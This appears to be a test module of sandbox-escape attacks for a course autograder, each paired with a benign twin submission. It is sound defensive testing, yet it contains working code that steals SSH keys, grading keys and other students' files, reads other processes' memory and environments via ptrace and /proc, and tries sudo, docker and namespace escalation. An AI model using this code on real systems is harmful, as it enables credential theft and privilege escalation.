"""Reading what is hidden: checks and solutions, the key, other people's files and processes; and telling it through whatever the student sees."""

from tests.attacks.attack import Attack, Win, attack

_NO_PERMISSION = "it depends on the kernel and on who runs the tests whether it works without walls"


def _hidden(name: str, goal: str, code: str, twin: str, *wrong: str, wins: Win | tuple[Win, ...] = Win.LEAKS, **more) -> Attack:
    return attack(name, goal, code, twin, *(wrong or ("1",)), family="hidden", wins=wins, **more)


_FILES = """
import os


def _below(*roots, limit=3000):
    found = []
    for root in roots:
        for folder, folders, names in os.walk(root):
            folders[:] = [name for name in folders if name not in ("proc", "sys", ".venv", ".git", "site-packages")]
            found += [os.path.join(folder, name) for name in names]
            if len(found) > limit:
                return found[:limit]
    return found

"""

# A twin that does with its own scratch what the attack does with others' files.
_OWN_FILES = """
import glob
import os
import tempfile


def standardize(x):
    with tempfile.TemporaryDirectory() as folder:
        path = os.path.join(folder, "datos.npy")
        np.save(path, x)
        assert glob.glob(folder + "/*") == [path]
        assert [names for _, _, names in os.walk(folder)] == [["datos.npy"]]
        x = np.load(path)
    return (x - x.mean(axis=0)) / x.std(axis=0)
"""

_OWN_PROC = """
import os


def standardize(x):
    with open("/dev/urandom", "rb") as file:
        assert len(file.read(8)) == 8
    assert os.getpid() > 0 and os.cpu_count() >= 1
    return (x - x.mean(axis=0)) / x.std(axis=0)
"""

_PIDS = """
import os


def _pids():
    try:
        there = [int(name) for name in os.listdir("/proc") if name.isdigit()]
    except OSError:
        there = []
    near = [os.getppid(), @@HOST@@, @@DECOY_PID@@]
    return near + [pid for pid in there if pid != os.getpid()]

"""

_MEMORY = """
import re


def _canaries_in(path, limit=1 << 28):
    found, seen = set(), 0
    try:
        with open(path.replace("/mem", "/maps")) as maps, open(path, "rb", 0) as memory:
            for line in maps:
                span, mode = line.split()[:2]
                start, end = (int(text, 16) for text in span.split("-"))
                if not mode.startswith("rw") or end - start > 1 << 26 or seen > limit or "[v" in line:
                    continue
                try:
                    memory.seek(start)
                    piece = memory.read(end - start)
                except (OSError, ValueError, OverflowError):
                    continue
                seen += len(piece)
                found |= set(re.findall(rb"CANARIO-[0-9a-f]{12}", piece))
    except OSError:
        pass
    return b" ".join(sorted(found))

"""

ATTACKS = (
    _hidden(
        "solution_by_its_path",
        "load solution.py of the class from where it is, and answer with it",
        """
import importlib.util


def standardize(x):
    spec = importlib.util.spec_from_file_location("s", "@@CLASS@@/solution.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module.standardize(x)
""",
        """
import importlib.util
import pathlib
import tempfile


def standardize(x):
    with tempfile.TemporaryDirectory() as folder:
        path = pathlib.Path(folder, "propio.py")
        path.write_text("def scale(x):\\n    return (x - x.mean(axis=0)) / x.std(axis=0)\\n")
        spec = importlib.util.spec_from_file_location("propio", path)
        module = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(module)
    return module.scale(x)
""",
        wins=(Win.SCORES, Win.LEAKS),
    ),
    _hidden(
        "solution_by_the_package",
        "import every module of catedra.classes, and look in the modules that are loaded",
        """
import importlib
import inspect
import pkgutil
import sys


def standardize(x):
    texts = []
    try:
        import catedra.classes

        for item in pkgutil.walk_packages(catedra.classes.__path__, "catedra.classes."):
            if item.name.endswith((".solution", ".checks")):
                importlib.import_module(item.name)
    except Exception:
        pass
    for name, module in list(sys.modules.items()):
        if name.startswith("catedra.classes."):
            try:
                texts.append(inspect.getsource(module))
            except Exception:
                texts.append(str(vars(module)))
            if hasattr(module, "SECRET"):
                texts.append(module.SECRET)
    _leak(*texts)
""",
        """
import inspect
import sys


def standardize(x):
    assert "numpy" in sys.modules and inspect.getsource(np.allclose)
    return (x - x.mean(axis=0)) / x.std(axis=0)
""",
    ),
    _hidden(
        "solution_of_a_real_class",
        "import the solution of a class of the installed course: it must not be there, whichever class is graded",
        """
def standardize(x):
    import importlib.util
    import pathlib

    import catedra

    folder = pathlib.Path(catedra.__file__).parent / "classes"
    text = (folder / "c100_perceptron" / "solution.py").read_text()
    raise RuntimeError(_proof() if "def " in text else "nada")
""",
        _OWN_FILES,
    ),
    _hidden(
        "tests_of_the_repository",
        "run the honest answers out of the tests that lie beside the package",
        """
def standardize(x):
    import runpy

    names = runpy.run_path("@@REPOSITORY@@/tests/attacks/target.py", run_name="t")
    module = {}
    exec(names["HONEST"], module)
    return module["standardize"](x)
""",
        """
import runpy
import tempfile


def standardize(x):
    with tempfile.NamedTemporaryFile("w", suffix=".py") as file:
        file.write("def scale(x):\\n    return (x - x.mean(axis=0)) / x.std(axis=0)\\n")
        file.flush()
        return runpy.run_path(file.name)["scale"](x)
""",
        wins=Win.SCORES,
        not_shown="the repository is found by the tests' own path only where they run",
    ),
    _hidden(
        "checks_and_notes_by_walking",
        "walk the class's folder and those above it",
        _FILES + "\n\ndef standardize(x):\n    _leak(*map(_read, _below('@@CLASSES@@', '@@ROOT@@')))\n",
        _OWN_FILES,
    ),
    _hidden(
        "compiled_checks",
        "read what Python left in __pycache__ and what linecache remembers",
        """
import glob
import linecache


def standardize(x):
    remembered = ["".join(entry[2]) for entry in linecache.cache.values() if len(entry) == 4 and entry[2]]
    remembered = [text for text in remembered if "_leak" not in text]
    _leak(*map(_read, glob.glob("@@CLASS@@/__pycache__/*") + glob.glob("@@CLASS@@/*")), *remembered)
""",
        """
import linecache


def standardize(x):
    linecache.checkcache()
    linecache.getline(standardize.__code__.co_filename, 1)
    return (x - x.mean(axis=0)) / x.std(axis=0)
""",
    ),
    _hidden(
        "own_environment",
        "look in the environment, as Python, the C library and /proc know it",
        """
import ctypes
import os


def standardize(x):
    environment = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
    native, n = [], 0
    while environment[n]:
        native.append(environment[n])
        n += 1
    _leak(str(os.environ), *native, _read("/proc/self/environ"))
""",
        """
import os


def standardize(x):
    os.environ["OMP_NUM_THREADS"] = os.environ.get("OMP_NUM_THREADS", "1")
    return (x - x.mean(axis=0)) / x.std(axis=0)
""",
    ),
    _hidden(
        "environments_of_others",
        "read /proc/*/environ",
        _PIDS + "\n\ndef standardize(x):\n    _leak(*(_read(f'/proc/{pid}/environ') for pid in _pids()))\n",
        _OWN_PROC,
    ),
    _hidden(
        "arguments_of_others",
        "read /proc/*/cmdline, comm, status, and ask ps",
        _PIDS
        + """
import subprocess


def standardize(x):
    try:
        listed = subprocess.run(["ps", "axeww"], capture_output=True, timeout=10).stdout
    except Exception:
        listed = b""
    _leak(listed, *(_read(f"/proc/{pid}/{name}") for pid in _pids() for name in ("cmdline", "comm", "stat")))
""",
        """
import subprocess
import sys


def standardize(x):
    said = subprocess.run([sys.executable, "-S", "-c", "print(1 + 1)"], capture_output=True, timeout=30, check=True).stdout
    assert said.strip() == b"2"
    return (x - x.mean(axis=0)) / x.std(axis=0)
""",
    ),
    _hidden(
        "memory_of_others",
        "read /proc/PID/mem of the judge, the zygote and whoever else is there",
        _PIDS + _MEMORY + "\n\ndef standardize(x):\n    _leak(*(_canaries_in(f'/proc/{pid}/mem') for pid in _pids()[:3]))\n",
        _OWN_PROC,
    ),
    _hidden(
        "own_memory",
        "look in this very process for what it inherited when it was forked",
        _MEMORY + "\n\ndef standardize(x):\n    _leak(_canaries_in('/proc/self/mem', 1 << 29))\n",
        """
import ctypes


def standardize(x):
    buffer = ctypes.create_string_buffer(b"hola", 16)
    assert ctypes.string_at(ctypes.addressof(buffer), 4) == b"hola"
    return (x - x.mean(axis=0)) / x.std(axis=0)
""",
        not_shown="the textbook grader never read a canary into its memory on purpose",
    ),
    _hidden(
        "memory_by_process_vm_readv",
        "read another process's memory without /proc: process_vm_readv on what its maps say, or on guessed addresses",
        _PIDS
        + """
import ctypes


class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def standardize(x):
    libc, pieces = ctypes.CDLL(None, use_errno=True), []
    for pid in _pids()[:3]:
        spans = [line.split()[0] for line in _read(f"/proc/{pid}/maps").decode(errors="replace").splitlines() if "[heap]" in line or "rw-p 00000000 00:00" in line]
        for span in spans[:200]:
            start, end = (int(text, 16) for text in span.split("-"))
            buffer = ctypes.create_string_buffer(min(end - start, 1 << 24))
            here, there = Vector(ctypes.addressof(buffer), len(buffer)), Vector(start, len(buffer))
            if libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
                pieces.append(buffer.raw)
    _leak(*pieces)
""",
        _OWN_PROC,
        not_shown=_NO_PERMISSION,
    ),
    _hidden(
        "traced_process",
        "attach with ptrace to the judge or to the decoy and read it",
        _PIDS
        + _MEMORY
        + """
import ctypes
import time


def standardize(x):
    libc, found = ctypes.CDLL(None, use_errno=True), []
    for pid in (@@DECOY_PID@@, @@HOST@@, os.getppid()):
        if pid > 1 and libc.ptrace(0x4206, pid, 0, 0) == 0:
            found.append(_canaries_in(f"/proc/{pid}/mem"))
            found.append(_proof().encode())
            libc.ptrace(17, pid, 0, 0)
    _leak(*found)
""",
        _OWN_PROC,
        not_shown=_NO_PERMISSION,
    ),
    _hidden(
        "descriptor_taken_by_pidfd",
        "take another process's open file with pidfd_getfd",
        """
import ctypes
import os


def standardize(x):
    libc, found = ctypes.CDLL(None, use_errno=True), []
    for pid in (@@DECOY_PID@@, @@HOST@@, os.getppid()):
        try:
            handle = os.pidfd_open(pid)
        except OSError:
            continue
        for number in range(64):
            fd = libc.syscall(438, handle, number, 0)
            if fd >= 0:
                try:
                    found.append(os.pread(fd, 4096, 0))
                except OSError:
                    pass
                os.close(fd)
    _leak(*found)
""",
        """
import os


def standardize(x):
    try:
        os.close(os.pidfd_open(os.getpid()))
    except OSError:  # libraries ask whether it works, and do without
        pass
    return (x - x.mean(axis=0)) / x.std(axis=0)
""",
        not_shown=_NO_PERMISSION,
    ),
    _hidden(
        "open_files_of_others",
        "go through /proc/PID/fd, root and cwd of other processes",
        _PIDS
        + """
import glob


def standardize(x):
    texts = []
    for pid in _pids()[:60]:
        texts += [_read(path) for path in glob.glob(f"/proc/{pid}/cwd/*") + glob.glob(f"/proc/{pid}/root@@HOME@@/.ssh/*") if os.path.isfile(path)]
        for path in glob.glob(f"/proc/{pid}/fd/*"):
            if os.path.isfile(path):
                texts.append(_read(path))
    _leak(*texts)
""",
        _OWN_FILES,
    ),
    _hidden(
        "inherited_descriptors",
        "read every descriptor that this process was born with",
        """
import os
import stat


def standardize(x):
    texts = []
    for fd in range(1024):
        try:
            if stat.S_ISREG(os.fstat(fd).st_mode):
                texts.append(os.pread(fd, 1 << 20, 0))
            elif stat.S_ISDIR(os.fstat(fd).st_mode):
                texts += [str(os.listdir(fd)), _proof() if "home" in os.listdir(fd) else ""]
        except OSError:
            pass
    _leak(*texts)
""",
        """
import os
import tempfile


def standardize(x):
    with tempfile.TemporaryFile() as file:
        file.write(x.tobytes())
        file.flush()
        x = np.frombuffer(os.pread(file.fileno(), 1 << 20, 0)).reshape(x.shape)
    return (x - x.mean(axis=0)) / x.std(axis=0)
""",
        not_shown="the textbook grader holds no secret open",
    ),
    _hidden(
        "other_submissions",
        "read what the others handed in",
        _FILES + "\n\ndef standardize(x):\n    _leak(*map(_read, _below('@@SUBMISSIONS@@', '..', '../..')))\n",
        _OWN_FILES,
    ),
    _hidden(
        "home_and_keys",
        "read the home folder: ssh keys, netrc, notes",
        _FILES
        + """
import pwd


def standardize(x):
    homes = ["@@HOME@@", os.path.expanduser("~")]
    try:
        homes.append(pwd.getpwuid(os.getuid()).pw_dir)
    except KeyError:
        pass
    _leak(*map(_read, _below(*homes, limit=500)))
""",
        """
import os
import pathlib


def standardize(x):
    folder = pathlib.Path(os.path.expanduser("~"))
    assert str(folder)
    return (x - x.mean(axis=0)) / x.std(axis=0)
""",
    ),
    _hidden(
        "cohort_key",
        "read the file of the cohort key",
        "def standardize(x):\n    _leak(_read('@@KEY@@'))\n",
        """
import hashlib
import hmac


def standardize(x):
    assert hmac.new(b"clave", x.tobytes(), hashlib.sha256).digest()
    return (x - x.mean(axis=0)) / x.std(axis=0)
""",
    ),
    _hidden(
        "data_and_cache",
        "read the files of the data sets, labels among them",
        _FILES
        + "\n\ndef standardize(x):\n    _leak(*map(_read, _below('@@DATA@@', '@@CACHE@@', os.environ.get('CATEDRA_DATA', '@@DATA@@'))))\n",
        """
def predict(model, x):
    from sklearn.datasets import load_iris

    assert len(load_iris().target) == 150
    return (_powers(x) @ model.weights > 0).astype(np.int64)
""",
    ),
    _hidden(
        "links_and_detours",
        "reach hidden files by links, /proc/self/root, descriptors of folders and names full of dots",
        """
import os


def standardize(x):
    texts = []
    for path in ("@@HOME@@/.ssh/id_ed25519", "@@KEY@@", "@@SUBMISSIONS@@/otra.py"):
        for n, make in enumerate((os.symlink, os.link)):
            try:
                name = f"enlace{n}-{os.path.basename(path)}"
                make(path, name)
                texts.append(_read(name))
            except OSError:
                pass
        for way in (f"/proc/self/root{path}", f"/proc/1/root{path}", f"/proc/thread-self/root{path}", "../" * 30 + path, f"/dev/fd/../../..{path}", f"/proc/self/cwd/../../../../../../..{path}"):
            texts.append(_read(way))
        for folder in ("/", ".", "/usr", "/proc", "/dev"):
            try:
                handle = os.open(folder, os.O_PATH | os.O_DIRECTORY)
                texts.append(os.pread(os.open(("../" * 30 + path).lstrip("/"), os.O_RDONLY, dir_fd=handle), 4096, 0))
            except OSError:
                pass
    _leak(*texts)
""",
        """
import os
import tempfile


def standardize(x):
    with tempfile.TemporaryDirectory() as folder:
        path, other = os.path.join(folder, "uno"), os.path.join(folder, "dos")
        x.tofile(path)
        os.symlink(path, other)
        x = np.fromfile(other).reshape(x.shape)
    return (x - x.mean(axis=0)) / x.std(axis=0)
""",
    ),
    _hidden(
        "handles_of_files",
        "open files by inode with open_by_handle_at, which asks no path",
        """
import ctypes
import os


class Handle(ctypes.Structure):
    _fields_ = [("size", ctypes.c_uint), ("kind", ctypes.c_int), ("data", ctypes.c_ubyte * 128)]


def standardize(x):
    libc, found = ctypes.CDLL(None, use_errno=True), []
    mount = ctypes.c_int()
    for path in (b"@@KEY@@", b"@@HOME@@/.ssh/id_ed25519", b"/"):
        handle = Handle(128)
        if libc.name_to_handle_at(-100, path, ctypes.byref(handle), ctypes.byref(mount), 0) == 0:
            root = os.open("/", os.O_RDONLY)
            fd = libc.open_by_handle_at(root, ctypes.byref(handle), os.O_RDONLY)
            if fd >= 0 and path != b"/":
                found.append(os.pread(fd, 4096, 0))
            os.close(root)
    _leak(*found)
""",
        _OWN_FILES,
        not_shown=_NO_PERMISSION,
    ),
    _hidden(
        "mounts_of_its_own",
        "make user and mount namespaces, become root there, and mount over the walls",
        """
import ctypes
import os


def standardize(x):
    libc, texts = ctypes.CDLL(None, use_errno=True), []
    os.makedirs("monte", exist_ok=True)
    pid = os.fork()
    if pid == 0:
        for flags in (0x10000000 | 0x00020000, 0x00020000):
            if libc.unshare(flags) == 0:
                libc.mount(b"@@ROOT@@", b"monte", None, 4096, None)
                libc.mount(b"proc", b"monte", b"proc", 0, None)
                libc.chroot(b"monte")
        try:
            with open("hallado", "wb") as file:
                file.write(_read("monte/key/cohorte.key") + _read("/key/cohorte.key") + _read("monte/@@HOST@@/environ"))
        finally:
            os._exit(0)
    os.waitpid(pid, 0)
    _leak(_read("hallado"))
""",
        _OWN_FILES,
        not_shown=_NO_PERMISSION,
    ),
    _hidden(
        "helpers_with_more_rights",
        "ask programs that run with more rights: su, sudo, mount, newuidmap, at, crontab, systemd-run, docker",
        """
import subprocess


def standardize(x):
    texts = []
    for command in ("sudo -n cat", "su -c cat root --", "pkexec cat", "systemd-run --user --pipe --wait cat", "docker run -v /:/h alpine cat", "nsenter -t 1 -m cat", "newgrp -c cat", "setpriv --reuid=0 cat"):
        try:
            texts.append(subprocess.run([*command.split(), "@@KEY@@"], capture_output=True, stdin=subprocess.DEVNULL, timeout=5).stdout)
        except Exception:
            pass
    _leak(*texts)
""",
        """
import subprocess


def standardize(x):
    assert subprocess.run(["echo", "hola"], capture_output=True, timeout=20, check=True).stdout == b"hola\\n"
    return (x - x.mean(axis=0)) / x.std(axis=0)
""",
        not_shown=_NO_PERMISSION,
    ),
    _hidden(
        "told_in_hexadecimal",
        "tell what was read in hexadecimal, backwards, in base 64 and as numbers, in messages",
        """
import base64


def _all():
    paths = ("@@KEY@@", "@@HOME@@/.ssh/id_ed25519", "@@SUBMISSIONS@@/otra.py", "@@CLASSES@@/notas.txt", "@@CLASS@@/checks.py")
    import re

    return b" ".join(re.findall(rb"CANARIO-[0-9a-f]{12}", b" ".join(map(_read, paths))))


def standardize(x):
    raise RuntimeError(_all().hex())


def brighten(images):
    raise ValueError(_all().decode()[::-1])


def deposit(account, amount):
    return base64.b64encode(_all()).decode()


def caption(name, score):
    return ",".join(map(str, _all()))


def summary(x):
    return {_all().decode(): 1}
""",
        """
import base64


def caption(name, score):
    return base64.b64decode(base64.b64encode(f"{name}: {score:.2f}".encode())).decode()
""",
        *"12345",
    ),
    _hidden(
        "told_on_standard_output",
        "print what was read, which the student is shown",
        """
import os
import sys


def standardize(x):
    for path in ("@@KEY@@", "@@HOME@@/.ssh/id_ed25519", "@@SUBMISSIONS@@/otra.py", "@@CLASS@@/checks.py"):
        print(_read(path).decode(errors="replace"), flush=True)
        os.write(2, _read(path))
    raise RuntimeError(_read("@@KEY@@"))
""",
        """
import sys


def standardize(x):
    print("Estoy estandarizando", x.shape)
    print("¡Listo!", file=sys.stderr)
    return (x - x.mean(axis=0)) / x.std(axis=0)
""",
    ),
    _hidden(
        "told_by_name_and_type",
        "tell what was read in the names of types, functions, files and fields that messages quote",
        """
def standardize(x):
    found = _read("@@KEY@@").decode(errors="replace").strip('"\\n')
    raise type(found, (Exception,), {})("x")


def brighten(images):
    found = _read("@@HOME@@/.ssh/id_ed25519").decode(errors="replace").strip('"\\n')
    return type(found, (), {})()


def caption(name, score):
    exec(compile("def f():\\n    raise ValueError\\nf()", _read("@@SUBMISSIONS@@/otra.py").decode(errors="replace"), "exec"))
""",
        """
def standardize(x):
    made = type("Escala", (), {"apply": lambda self, x: (x - x.mean(axis=0)) / x.std(axis=0)})
    return made().apply(x)
""",
        *"125",
    ),
    _hidden(
        "inputs_told_to_the_next",
        "leave what was asked where the next worker or submission finds it, and answer from there",
        """
import glob
import os
import tempfile


def standardize(x):
    for folder in (".", tempfile.gettempdir(), "/dev/shm", "/tmp", "/var/tmp", "@@OUTSIDE@@", os.path.expanduser("~")):
        try:
            with open(os.path.join(folder, "@@MARK@@-hidden"), "a") as file:
                file.write(str(x))
        except OSError:
            pass
    return x
""",
        """
_SEEN = {}


def standardize(x):
    _SEEN[len(_SEEN)] = x.copy()
    return (x - x.mean(axis=0)) / x.std(axis=0)
""",
        wins=(Win.ESCAPES, Win.NEXT),
        not_shown="it is after the next submission",
    ),
)
